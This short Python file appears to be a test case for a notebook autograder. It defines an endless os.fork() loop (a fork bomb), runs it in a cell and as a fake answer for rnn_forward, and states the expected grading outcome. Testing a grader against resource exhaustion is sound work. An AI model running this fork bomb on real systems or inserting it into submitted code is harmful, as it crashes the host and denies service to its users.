"""Forks without end, in a cell and in an answer.

Earns: all but rnn_forward
"""
# %%
import os

def bomb():
    while True:
        os.fork()

try:
    bomb()
except OSError as error:
    print(error)

# %% answer rnn_forward
def rnn_forward(x, a0, parameters):
    bomb()
